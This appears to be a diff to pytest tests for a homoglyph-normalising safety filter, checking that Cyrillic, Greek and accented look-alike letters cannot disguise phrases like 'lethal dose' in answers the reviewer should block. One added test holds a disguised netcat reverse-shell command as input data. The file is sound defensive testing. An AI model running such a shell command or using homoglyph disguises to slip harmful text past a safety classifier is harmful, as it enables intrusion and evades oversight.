@@ -76,12 +76,18 @@ def test_evidence_points_at_the_letters_as_sent(client: TestClient) -> None:
     [
         "Примите 2 таблетки парацетамола и отдохните.",  # Russian: its а, е, о stay Cyrillic
         "Πάρτε ένα χάπι και ξεκουραστείτε.",  # Greek
-        "Café au lait, naïve résumé — rest and drink fluids.",  # accented Latin: nothing to fold
     ],
 )
 def test_text_of_another_script_keeps_its_own_letters_beside_a_disguised_word(text: str) -> None:
     disguised = "The l\u0435th\u0430l dose"  # Cyrillic е and а in a Latin word
     assert visible(f"{text} {disguised}").text == f"{text} The lethal dose"
+
+
+def test_a_mark_on_a_latin_letter_does_not_hide_a_word(client: TestClient) -> None:
+    # "lethál" is "lethal" to a reader; Latin words with marks are read bare ("naïve" as "naive")
+    assert visible("Café au lait, naïve — the lethál dose").text == "Cafe au lait, naive — the lethal dose"
+    answer = OVERDOSE[1].replace("lethal", "leth\u00e1l").replace("entire", "\u00e9ntire")
+    assert review(client, OVERDOSE[0], answer)["verdict"] == review(client, *OVERDOSE)["verdict"] == "block"
 
 
 @pytest.mark.parametrize(
@@ -110,5 +116,7 @@ def test_near_look_alikes_and_bars_read_as_the_letter_a_reader_sees(
 
 
 def test_short_words_of_another_script_stay_as_they_are_beside_a_disguised_one() -> None:
-    # Russian "а", "с", "у", "о" are words of their own, not disguised Latin letters; "lеthаl" is.
-    assert visible("и а с у о со The l\u0435th\u0430l dose").text == "и а с у о со The lethal dose"
+    # Russian "а", "с", "у", "о" are words of their own, not disguised Latin letters; "lеthаl" is, and so is a
+    # two-letter word all of look-alikes ("ѕһ" in /bin/ѕһ)
+    assert visible("и а с у о The l\u0435th\u0430l dose").text == "и а с у о The lethal dose"
+    assert visible("nc 10.0.0.1 4444 -e /bin/\u0455\u04bb").text == "nc 10.0.0.1 4444 -e /bin/sh"
